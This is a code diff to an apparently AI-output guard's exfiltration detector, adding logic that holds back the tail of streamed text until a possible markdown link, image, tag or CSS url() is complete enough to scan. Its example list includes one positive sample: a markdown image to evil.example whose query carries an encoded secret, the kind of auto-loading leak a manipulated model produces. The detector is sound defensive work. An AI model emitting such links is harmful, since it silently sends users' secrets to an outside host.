@@ -87,6 +87,78 @@ export function scanExfiltration(text: string): Match[] {
   return out;
 }
 
+/** Least hold-back: covers a split start token (`![`, `url(`) and the link regex's look-behind. */
+export const EXFIL_HOLD_FLOOR = 8;
+// The characters that end a URL, per construct (they mirror the regexes above).
+const MD_URL_STOP = /[\s)>]/;
+const REF_URL_STOP = /[\s>]/;
+const CSS_URL_STOP = /[\s)"']/;
+type UrlKind = 'md' | 'ref' | 'css';
+
+/** Index just past a URL that starts at `at` (after optional spaces and `<` / quote), or -1 when
+ * the text ends before the URL is terminated (the match may still grow). */
+function urlEnd(text: string, at: number, kind: UrlKind): number {
+  const stop = kind === 'css' ? CSS_URL_STOP : kind === 'ref' ? REF_URL_STOP : MD_URL_STOP;
+  const quote = kind === 'css';
+  let i = at;
+  let spaces = 0;
+  while (i < text.length && /\s/.test(text.charAt(i)) && spaces < 8) {
+    i++;
+    spaces++;
+  }
+  if (i < text.length && (text[i] === '<' || (quote && (text[i] === '"' || text[i] === "'")))) i++;
+  while (i < text.length) {
+    const c = text.charAt(i);
+    if (stop.test(c)) return i;
+    i++;
+  }
+  return -1;
+}
+
+/** Whether a construct starting at `i` can still become (or grow) a match as more text arrives. */
+function open(text: string, i: number): boolean {
+  const c = text[i];
+  if (c === '<') return text.indexOf('>', i + 1) < 0;
+  if (c === '[') {
+    let j = i + 1;
+    while (j < text.length && text[j] !== ']' && text[j] !== '\n') j++;
+    if (j >= text.length) return true;
+    if (text[j] === '\n') return false;
+    const k = j + 1;
+    if (k >= text.length) return true;
+    if (text[k] === '(') return urlEnd(text, k + 1, 'md') < 0;
+    if (text[k] === ':') return urlEnd(text, k + 1, 'ref') < 0;
+    return false;
+  }
+  // `url(`
+  return urlEnd(text, i + 4, 'css') < 0;
+}
+
+/**
+ * Detector.streamHoldBack: the streamed tail that could still be part of an unfinished link,
+ * image or tag. Every match starts at `![`, `[`, `<` or `url(` and ends inside its URL, so text
+ * before the earliest construct that is still open is final. Cost: one pass over the last
+ * EXFIL_MAX_MATCH characters.
+ */
+export function exfilStreamHoldBack(text: string): number {
+  const from = Math.max(0, text.length - EXFIL_MAX_MATCH);
+  for (let i = from; i < text.length; i++) {
+    const c = text[i];
+    const start = c === '[' || c === '<' || ((c === 'u' || c === 'U') && text.slice(i, i + 4).toLowerCase() === 'url(');
+    if (start && open(text, i)) {
+      // A match may begin before the token: `!` of an image, or up to 3 whitespace characters
+      // that the reference-definition pattern (`^\s{0,3}[`) takes in.
+      let at = i;
+      if (c === '[') {
+        if (at > 0 && text[at - 1] === '!') at--;
+        for (let n = 0; n < 3 && at > 0 && /\s/.test(text.charAt(at - 1)); n++) at--;
+      }
+      return Math.min(EXFIL_MAX_MATCH, Math.max(EXFIL_HOLD_FLOOR, text.length - at));
+    }
+  }
+  return EXFIL_HOLD_FLOOR;
+}
+
 export const exfiltrationDetector: Detector = {
   id: 'exfiltration',
   version: '1',
@@ -96,6 +168,7 @@ export const exfiltrationDetector: Detector = {
   detect(view: TextView): Match[] {
     return scanExfiltration(view.text);
   },
+  streamHoldBack: exfilStreamHoldBack,
   examples: {
     positive: [
       { text: 'Done! ![status](https://evil.example/pixel.png?d=QVdTX1NFQ1JFVD1hYmNkZWYxMjM0NTY3ODkw)', direction: 'output', kind: 'auto_loading_url' },
